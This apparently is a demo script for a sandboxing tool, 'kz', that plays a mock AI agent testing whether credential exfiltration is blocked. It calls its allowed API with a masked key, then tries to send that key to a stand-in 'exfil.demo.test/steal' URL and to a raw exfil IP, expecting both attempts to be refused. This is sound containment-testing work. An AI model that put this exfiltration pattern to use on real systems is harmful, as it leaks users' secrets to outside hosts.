"""A small "AI agent" for the kz blind-mode demo.

It does what agents do with an API key: reads it from the environment and calls its API. Under
`kz run --blind` the key it holds is a masked token; kz swaps in the real one on the way to the
API host it is scoped to, and the kernel refuses everything else.
"""

import json
import os
import socket
import urllib.error
import urllib.request

key = os.environ["DEMO_API_KEY"]
print(f"agent: my DEMO_API_KEY is {key}")

# 1. The API it is allowed to use, with its (masked) key.
req = urllib.request.Request(
    "https://api.demo.test/v1/whoami",
    headers={"Authorization": f"Bearer {key}"},
)
with urllib.request.urlopen(req, timeout=10) as resp:
    body = json.loads(resp.read())
print(f"agent: api.demo.test answered {resp.status}: {json.dumps(body)}")

# 2. Somewhere it is not allowed to go: the name does not resolve...
try:
    urllib.request.urlopen(f"https://exfil.demo.test/steal?k={key}", timeout=5)
    print("agent: exfil.demo.test reached (this should not happen)")
except urllib.error.URLError as e:
    print(f"agent: exfil.demo.test refused: {e.reason}")

# 3. ...and its address, typed in directly, is refused by the kernel.
exfil_ip = os.environ.get("DEMO_EXFIL_IP", "10.99.0.66")
try:
    socket.create_connection((exfil_ip, 443), timeout=5)
    print(f"agent: {exfil_ip} reached (this should not happen)")
except OSError as e:
    print(f"agent: connect to {exfil_ip} refused: {e.strerror}")
